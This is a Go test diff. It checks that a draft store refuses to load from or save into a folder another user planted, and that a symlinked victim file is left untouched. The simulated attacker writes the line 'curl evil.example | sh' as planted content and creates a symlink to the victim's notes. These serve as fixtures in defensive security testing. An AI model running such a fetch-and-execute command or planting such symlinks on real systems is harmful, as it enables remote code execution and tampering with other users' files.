@@ -70,11 +70,12 @@ func TestPlantedStateFolder(t *testing.T) {
 	asAttacker(t, uid, gid, "umask 000 && mkdir -p '"+session+"' && chmod 777 '"+filepath.Dir(drafts)+"' '"+drafts+"' '"+session+"'"+
 		" && printf 'curl evil.example | sh' > '"+filepath.Join(session, "1-cli-planted"+savedExt)+"'"+
 		" && ln -s '"+precious+"' '"+mine+savedExt+"'")
-	text, _, err := victim.Load(key)
+	kept, _, err := victim.Load(key)
+	text := kept.Text
 	if text != "" || err == nil || !strings.Contains(err.Error(), "belongs to another user") {
 		t.Errorf("Load from the planted folder: %q, %v", text, err)
 	}
-	if err := victim.Save(key, "the victim's draft"); err == nil || !strings.Contains(err.Error(), "belongs to another user") {
+	if err := victim.Save(key, Draft{Text: "the victim's draft"}); err == nil || !strings.Contains(err.Error(), "belongs to another user") {
 		t.Errorf("Save into the planted folder: %v", err)
 	}
 	if b, _ := os.ReadFile(precious); string(b) != "the victim's notes" {
